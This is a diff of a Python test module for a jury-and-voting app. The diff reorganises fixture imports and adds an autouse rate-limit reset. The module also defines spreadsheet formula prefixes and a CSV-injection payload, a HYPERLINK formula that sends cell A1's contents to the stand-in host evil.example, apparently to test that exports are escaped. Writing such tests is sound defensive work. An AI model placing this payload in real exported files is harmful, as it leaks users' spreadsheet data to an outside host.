@@ -13,16 +13,15 @@ from evidence import atrs
 from evidence.models import System
 from juries import csv_export
 from juries.models import Visibility, Volunteer
-from tests.juries.test_recruitment import (  # noqa: F401 (fixtures)
-    _fresh_rate_limits,
-    add_volunteer,
-    categories,
-    open_jury,
-)
+from tests.juries.conftest import categories, fresh_rate_limits, open_jury  # noqa: F401 (fixtures)
+from tests.juries.recruitment_helpers import add_volunteer
 from tests.voting.conftest import make_recommendation  # noqa: F401 (fixture)
-from tests.voting.test_report_setup import ready_for_report
+from tests.voting.report_setup import ready_for_report
 from voting import reports
 from voting.models import ReportFormat, Theme
+
+# Each test starts with no registrations counted against the test client's address.
+pytestmark = pytest.mark.usefixtures("fresh_rate_limits")
 
 FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'
